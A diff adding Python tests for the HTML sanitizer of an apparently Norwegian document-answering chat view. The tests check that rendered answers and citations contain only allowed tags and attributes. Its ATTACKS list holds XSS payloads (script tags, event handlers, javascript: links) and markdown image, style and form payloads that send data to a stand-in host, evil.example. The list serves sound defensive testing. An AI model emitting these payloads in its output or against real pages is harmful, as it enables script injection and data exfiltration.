@@ -1,0 +1,212 @@
+"""Whatever stands in an answer, only our few elements come out of it, and every character is shown."""
+
+import re
+from html.parser import HTMLParser
+
+import pytest
+from fake_assistant import ANSWERED, NOT_FOUND, citation
+from hypothesis import given
+from hypothesis import strategies as st
+
+from ui.chat_view import Exchange, View, plain
+from ui.html import escape, from_markdown, web_address
+from ui.texts import texts
+
+ATTACKS = (
+    "<script>alert(1)</script>",
+    "![x](https://evil.example/?q=secret)",
+    "![x][1]\n\n[1]: https://evil.example",
+    "[click](javascript:alert(1))",
+    "<img src=x onerror=alert(1)>",
+    '<video poster="https://evil.example">',
+    "<style>body{background:url(https://evil.example)}</style>",
+    '<form action="https://evil.example"><input></form>',
+    "<a href='data:text/html,x'>x</a>",
+    '" onmouseover="alert(1)',
+    "</li></ol></section><h1>Ny</h1>",
+    "{{constructor.constructor('alert(1)')()}} ${alert(1)}",
+    "<https://evil.example>",
+    "$$\\href{https://evil.example}{x}$$",
+    "```html\n<b>x</b>\n```",
+    "&lt;script&gt;",
+)
+
+
+class Elements(HTMLParser):
+    """Collects the tags, attributes and text of a piece of HTML."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[str] = []
+        self.open: list[str] = []
+        self.attributes: list[tuple[str, str, str]] = []
+        self.text = ""
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append(tag)
+        self.attributes.extend((tag, name, value or "") for name, value in attrs)
+        if tag != "br":
+            self.open.append(tag)
+
+    def handle_endtag(self, tag):
+        assert self.open.pop() == tag
+
+    def handle_data(self, data):
+        self.text += data
+
+    def handle_comment(self, data):
+        raise AssertionError("a comment")
+
+    def handle_decl(self, decl):
+        raise AssertionError("a declaration")
+
+
+MARKDOWN = {
+    "p": set(),
+    "strong": set(),
+    "blockquote": set(),
+    "ul": set(),
+    "ol": set(),
+    "li": {"value"},
+    "a": {"class", "href"},
+    "span": {"class"},
+}
+PAGE = {
+    **MARKDOWN,
+    "a": {"class", "href", "target", "rel"},
+    "blockquote": {"lang"},
+    "cite": {"lang"},
+    "details": {"class"},
+    "div": {"class", "lang"},
+    "h2": {"class", "id"},
+    "h3": set(),
+    "li": {"id", "value"},
+    "mark": set(),
+    "p": {"class", "lang"},
+    "section": {"class"},
+    "span": {"class", "lang"},
+    "summary": set(),
+}
+
+
+def assert_only(html: str, allowed: dict[str, set[str]]) -> Elements:
+    found = Elements(html)
+    assert set(found.tags) <= set(allowed)
+    for tag, name, _ in found.attributes:
+        assert name in allowed[tag], (tag, name)
+    assert not found.open
+    return found
+
+
+anything = st.text(st.characters(codec="utf-8"), max_size=200)
+nasty = st.lists(
+    st.one_of(st.sampled_from(ATTACKS), anything, st.sampled_from(["[1]", "**", "> ", "- ", "\n", "1. "]))
+)
+
+
+@given(nasty.map("".join))
+def test_only_our_elements_come_out(text):
+    found = assert_only(from_markdown(text, numbers={1}, anchor="q1-k", source="Kilde"), MARKDOWN)
+    for tag, name, value in found.attributes:
+        if (tag, name) == ("a", "href"):
+            assert value == "#q1-k1"
+
+
+@given(anything)
+def test_words_are_all_shown(text):
+    shown = Elements(from_markdown(text)).text
+    assert re.findall(r"[a-zA-ZæøåÆØÅ]+", shown) == re.findall(r"[a-zA-ZæøåÆØÅ]+", text)
+
+
+@given(nasty.map("".join), nasty.map("".join))
+def test_page_holds_only_our_elements_whatever_comes(one, other):
+    marked = citation()
+    marked = type(marked)(
+        **{**vars(marked), "title": one, "quote": other, "context": other + one, "section": (one, other),
+           "publisher": other, "date": one, "url": other, "viewer_url": "/documents/x?start=1#passage"}
+    )  # fmt: skip
+    answer = type(ANSWERED)(**{**vars(ANSWERED), "text": one, "citations": (marked,), "notices": (other,)})
+    view = View(texts("nn"))
+    html = view.conversation([view.exchange(Exchange(1, one, answer=answer))])
+    found = assert_only(html, PAGE)
+    for tag, name, value in found.attributes:
+        if (tag, name) == ("a", "href"):
+            assert re.match(r"#q1-k1$|/documents/|https?://", value, re.IGNORECASE), value
+    assert "\n" not in html
+    assert_only(plain(one), {"p": set()})
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_attack_is_shown_as_it_was_typed(attack):
+    shown = Elements(from_markdown(attack)).text
+    assert re.sub(r"\W", "", attack) in re.sub(r"\W", "", shown)
+
+
+@pytest.mark.parametrize(
+    ("markdown", "html"),
+    [
+        ("Ett.\nTo.\n\nTre.", "<p>Ett. To.</p>\n<p>Tre.</p>"),
+        ("**Nei.** Det", "<p><strong>Nei.</strong> Det</p>"),
+        ("2 ** 3 ** 4", "<p>2 ** 3 ** 4</p>"),
+        (
+            "> sitat\n> mer [1]",
+            '<blockquote><p>sitat mer <a class="mark" href="#k1">[1]</a></p></blockquote>',
+        ),
+        ("- en\n- to\n\n- tre", "<ul><li>en</li><li>to</li><li>tre</li></ul>"),
+        ("3. tre\n  mer\n4) fire", '<ol><li value="3">tre mer</li><li value="4">fire</li></ol>'),
+        ("### Om **dette**", "<p><strong>Om dette</strong></p>"),
+        ("se [1] og [7]", '<p>se <a class="mark" href="#k1">[1]</a> og [7]</p>'),
+        ("", ""),
+    ],
+)
+def test_markdown_that_we_write_becomes_html(markdown, html):
+    assert from_markdown(markdown, numbers={1}, anchor="k") == html
+
+
+@given(anything)
+def test_escaped_text_reads_the_same(text):
+    assert Elements(f"<p>{escape(text)}</p>").text.replace("\r", "\n") == text.replace("\r\n", "\n").replace(
+        "\r", "\n"
+    )
+
+
+@pytest.mark.parametrize(
+    "url", ["javascript:alert(1)", "data:text/html,x", "//evil.example", "", "https://", " https://x"]
+)
+def test_only_web_addresses_become_links(url):
+    assert web_address(url) is None
+
+
+def test_abstention_looks_different_from_an_answer():
+    view = View(texts("nb"))
+    answered = view.exchange(Exchange(1, "Hva?", answer=ANSWERED))
+    abstained = view.exchange(Exchange(2, "Hva?", answer=NOT_FOUND))
+    assert 'class="outcome answered"' in answered
+    assert 'class="outcome not_found"' in abstained
+    assert "Dokumentene svarer ikke på dette" in abstained
+    assert "Dette svarer ikke på spørsmålet" in abstained
+    assert "Notatet er fra 2022." in abstained
+
+
+def test_source_says_what_it_is_and_where_it_stands():
+    html = View(texts("nb")).exchange(Exchange(1, "Hva?", answer=ANSWERED))
+    for part in (
+        "Om tillitsreformen",
+        "Kommunal- og distriktsdepartementet, 2022",
+        "Departementets egen veiledning",
+        "Om innholdet › Er reduksjon av markedsmekanismen en del av tillitsreformen?",
+        "side 5",
+        "<mark>Nei, dette følges opp gjennom andre prosesser.</mark> Regjeringen har",
+        "/documents/inspirasjonsnotat?start=",
+        "https://www.regjeringen.no/",
+        '<p class="verdict no">Nei</p>',
+    ):
+        assert part in html
+
+
+def test_reader_of_another_language_gets_our_pages_in_it():
+    html = View(texts("en")).exchange(Exchange(1, "Why?", answer=ANSWERED))
+    assert "&amp;lang=en#passage" in html
+    assert '<blockquote lang="nb">' in html
